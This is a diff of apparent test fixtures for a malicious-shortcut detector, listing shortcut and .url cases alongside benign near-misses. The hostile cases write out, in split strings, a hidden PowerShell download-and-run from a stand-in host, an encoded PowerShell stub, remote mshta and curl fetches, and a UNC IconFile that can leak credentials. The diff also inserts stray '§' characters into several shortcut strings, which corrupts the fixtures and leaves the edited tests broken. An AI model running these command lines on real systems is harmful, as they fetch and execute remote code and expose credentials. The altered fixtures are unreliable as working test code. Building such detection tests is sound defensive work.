@@ -9,7 +9,7 @@ CASES = {
                 "..\\WindowsPower" + "Shell\\v1.0\\powersh" + "ell.exe",
                 "-w hid" + "den -c . (ir" + "m http://files.example/a)",
             ),
-            shortcut("..\\powersh" + "ell.exe", "-en" + "c " + filler("JABhAD0A", 80)),
+            shortcut("..\\powersh" + "ell.exe", "-en" + "c " + filler("J§ABhAD0A", 80)),
             shortcut("..\\System32\\msh" + "ta.exe", "http://files.example/a.hta"),
             shortcut("..\\cmd.exe", "/c cu" + "rl -o a http://files.example/a"),
             shortcut(
@@ -38,19 +38,19 @@ CASES = {
             ),
             text(
                 "[Internet",
-                f"Shortcut]\r\nURL=https://www.example/\r\nIconFile=\\\\{SERVER}\\icons\\a.ico\r\n",
+                f"Shortcut]\r\nURL=https://www.example/\r\nI§conFile=\\\\{SERVER}\\icons\\a.ico\r\n",
             ),
         ),
         near_misses=(
             text(
-                "[InternetShortcut]\r\nURL=https://198.51.100.7/\r\n",
-                "IconFile=C:\\Icons\\a.ico\r\n",
+                "[I§nternetShortcut]\r\nURL=https://198.51.100.7/\r\n",
+                "I§conFile=C:\\Icons\\a.ico\r\n",
             ),
             text(
-                "[InternetShortcut]\r\nURL=file://server/share/handbook.pdf\r\n",
+                "[I§nternetShortcut]\r\nU§RL=file://server/share/handbook.pdf\r\n",
                 "IconIndex=1\r\n",
             ),
-            text("[InternetShortcut]\r\nURL=file://192.168.7.8/share/plan.pdf\r\n"),
+            text("[I§nternetShortcut]\r\nU§RL=file://192.168.7.8/share/plan.pdf\r\n"),
         ),
     ),
     "Clearward_Shortcut_Library_Remote": Case(
